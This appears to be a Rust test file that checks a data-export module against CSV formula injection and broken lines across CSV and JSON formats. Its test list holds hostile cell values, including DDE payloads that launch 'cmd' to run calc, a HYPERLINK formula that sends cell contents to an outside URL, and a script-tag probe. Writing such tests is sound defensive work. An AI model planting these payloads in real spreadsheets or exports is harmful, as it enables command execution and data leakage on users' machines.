//! Whatever stands in a record: no cell runs, no line breaks, nothing is lost.

use super::{
    dataset::{of, records},
    tables,
};
use atlas_ptce::{
    domain::{Claim, Grade, Record, record::Partner},
    export::Cell,
    protocol::ExportFormat,
};
use proptest::prelude::*;
use serde_json::Value;

/// A record that says this wherever a record can say something.
fn saying(text: &str) -> Record {
    fn claim<T>(value: T, note: &str) -> Claim<T> {
        Claim { value, grade: Grade::Explicit, note: Some(note.to_owned()), sources: Vec::new() }
    }
    let mut record = Record::new("hostile".parse().unwrap(), records()[0].kind.clone(), text.to_owned());
    record.summary = vec![claim(text.to_owned(), text)];
    record.actions = vec![claim(text.to_owned(), text), claim("deux".to_owned(), "")];
    record.partners = vec![claim(Partner { name: text.to_owned(), role: Some(text.to_owned()) }, text)];
    record
}

/// What a spreadsheet takes for the beginning of a formula, once it has left out what it does not see.
fn runs(cell: &str) -> bool {
    cell.trim_start().starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
}

fn holds(text: &str) {
    let record = [saying(text)];
    let export = of(&record);
    let (_, lines) = tables::read(&export.bytes(ExportFormat::Csv));
    assert_eq!(lines.len(), 1, "{text:?} breaks a line");
    let cells = export.lines().next().unwrap();
    for (read, cell) in lines[0].iter().zip(&cells) {
        assert!(!runs(read) || matches!(cell, Cell::Number(_)), "{read:?} runs");
        assert!(!read.contains(['\r', '\n', '\t', '\0']), "{read:?}");
        if let Cell::Text(wanted) = cell {
            assert!(read == wanted || read.strip_prefix('\'') == Some(wanted), "{read:?} {wanted:?}");
        }
    }
    for format in [ExportFormat::GeoJson, ExportFormat::Json, ExportFormat::JsonLd] {
        let value: Value = serde_json::from_slice(&export.bytes(format)).unwrap();
        let told = match format {
            ExportFormat::Json => &value["records"][0]["title"],
            ExportFormat::JsonLd => &value["@graph"][1]["name"],
            // One line, as in the tables.
            _ => continue,
        };
        assert_eq!(told, text);
    }
}

#[test]
fn formulas_and_markup_are_words() {
    for text in [
        "=HYPERLINK(\"http://exemple.fr?x=\"&A1;\"ici\")",
        "+33 3 21 00 00 00",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{feff}=1+1",
        "<script>alert(1)</script>",
        "</text:p><office:x/>&amp;]]>",
        "a;b\"c\"\r\nd|e",
        "\"",
        "'",
        "",
        "\u{0}\u{1}\u{1f}\u{7f}\u{85}",
        "🧵 œ É ﬁ \u{202e}renversé",
    ] {
        holds(text);
    }
}

proptest! {
    #[test]
    fn any_text_is_held(text in "(?s).{0,40}") {
        holds(&text);
    }

    #[test]
    fn any_text_that_begins_like_a_formula_is_held(text in "[\\s\u{200b}\u{feff}]{0,3}[=+\\-@＝＋－＠|;\"'].{0,20}") {
        holds(&text);
    }
}
